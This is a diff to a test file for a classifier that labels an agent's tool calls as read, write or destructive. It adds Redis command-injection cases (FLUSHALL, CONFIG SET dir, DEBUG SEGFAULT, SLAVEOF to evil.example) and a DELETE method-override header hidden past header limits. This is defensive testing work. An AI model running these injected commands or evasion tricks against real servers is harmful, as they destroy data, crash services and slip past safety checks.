@@ -2,7 +2,7 @@
 // test/cases/intent/calls.txt.
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { Intent } from '../../call.ts';
-import type { JsonObject } from '../../lib/json.ts';
+import type { Json, JsonObject } from '../../lib/json.ts';
 import { classifyCall } from './call-intent.ts';
 import { classifyDefinition } from './definition.ts';
 import { headersOf, MAX_HEADERS } from './http-header.ts';
@@ -119,7 +119,14 @@ const CALLS: Readonly<Record<string, readonly (readonly [tool: string, args: Jso
     ['redis_command', { command: 'GET a\r\nFLUSHALL' }, 'd'],
     ['redis_command', { command: 'SLAVEOF evil.example 6379' }, 'de'],
     ['redis_command', { command: 'GET a\nGET b' }, 'r'],
-    ['redis_command', { command: 'SET a "one\nDEL b"' }, 'w'],
+    ['redis_command', { command: 'SET a "one\nDEL b"' }, 'd'],
+    ['redis_command', { command: 'SET a "one\ntwo three\n"' }, 'w'],
+    ['redis_command', { command: "GET don't\nFLUSHALL\nGET don't" }, 'd'],
+    ['redis_command', { command: 'GET "x\nFLUSHALL\n"' }, 'd'],
+    ['redis_command', { command: 'SET a "x\r\n \'flushall\'\ny"' }, 'd'],
+    ['redis_command', { command: 'GET "x\nCONFIG SET dir /tmp\n"' }, 'd'],
+    ['redis_command', { command: 'GET "x\nDEBUG SEGFAULT\n"' }, 'd'],
+    ['redis_command', { command: 'GET "one\nGET two"' }, 'r'],
     ['redis_command', { command: "SET a it's\nFLUSHALL" }, 'd'],
   ],
   Elasticsearch: [
@@ -189,6 +196,12 @@ describe.each(Object.entries(CALLS))('%s', (_name, calls) => {
   });
 });
 
+it('a command behind many lines of a value is found', () => {
+  const text = `GET "x${'\ny'.repeat(2_000)}`;
+  expect(judge('redis_command', { command: `${text}"` }).intent).toBe('read');
+  expect(judge('redis_command', { command: `${text}\nFLUSHALL"` }).intent).toBe('destructive');
+});
+
 describe('money', () => {
   const isLarge = (tool: string, args: JsonObject): boolean => JSON.stringify(judge(tool, args).evidence).includes('a large amount');
 
@@ -228,7 +241,36 @@ it('headers are read in every form, up to their bound', () => {
     '{"a":"b"}',
     [{ a: 'b' }],
   ])
-    expect(headersOf(form), JSON.stringify(form)).toEqual(one);
-  expect(headersOf(Array.from({ length: MAX_HEADERS + 9 }, () => 'a:b'))).toHaveLength(MAX_HEADERS);
-  for (const nothing of [undefined, null, 1, '', '{', [1, null, []]]) expect(headersOf(nothing)).toEqual([]);
+    expect(headersOf(form), JSON.stringify(form)).toEqual({ list: one, whole: true });
+  const many = (count: number): string[] => Array.from({ length: count }, (_, i) => `a${i}: b`);
+  expect(headersOf(many(MAX_HEADERS)).whole).toBe(true);
+  expect(headersOf(`${many(MAX_HEADERS).join('\r\n')}\r\n`).whole).toBe(true);
+  for (const over of [many(MAX_HEADERS + 1), many(MAX_HEADERS + 1).join('\n'), { a: many(MAX_HEADERS + 1) }, JSON.stringify(many(501))])
+    expect(headersOf(over)).toMatchObject({ list: { length: MAX_HEADERS }, whole: false });
+  for (const nothing of [undefined, null, 1, '', [1, null, []]]) expect(headersOf(nothing)).toEqual({ list: [], whole: true });
+  expect(headersOf('{')).toEqual({ list: [], whole: false });
+});
+
+describe('a request with more headers than are looked at', () => {
+  const override = 'X-HTTP-Method-Override: DELETE';
+  const filler = Array.from({ length: MAX_HEADERS }, () => 'a: b');
+  const long = 'x'.repeat(66_000);
+
+  it.each<[what: string, method: string, headers: Json]>([
+    ['list', 'POST', [...filler, override]],
+    ['text', 'POST', [...filler, override].join('\n')],
+    ['values', 'POST', { a: filler, 'X-HTTP-Method-Override': 'DELETE' }],
+    ['object', 'GET', Object.fromEntries([...filler.map((_, i) => [`a${i}`, 'b']), ['X-HTTP-Method-Override', 'DELETE']])],
+    ['long JSON', 'GET', JSON.stringify({ 'X-HTTP-Method-Override': 'DELETE', a: long })],
+    ['long text', 'GET', `a: ${long}\n${override}`],
+    ['what is no JSON', 'GET', "{'X-HTTP-Method-Override': 'DELETE'}"],
+    ['two names', 'GET', [{ name: 'a', Name: 'X-HTTP-Method-Override', value: 'DELETE' }]],
+  ])('is not understood: %s', (_what, method, headers) => {
+    expect(judge('http_request', { method, url: 'https://api.example/items', headers }).intent).toBe('destructive');
+  });
+
+  it('items are told by their keys in any case', () => {
+    for (const headers of [[{ Name: 'X-HTTP-Method-Override', Value: 'DELETE' }], [{ KEY: 'X-HTTP-Method-Override', VALUES: ['DELETE'] }]])
+      expect(judge('http_request', { method: 'POST', url: 'https://api.example/items', headers }).intent).toBe('destructive');
+  });
 });
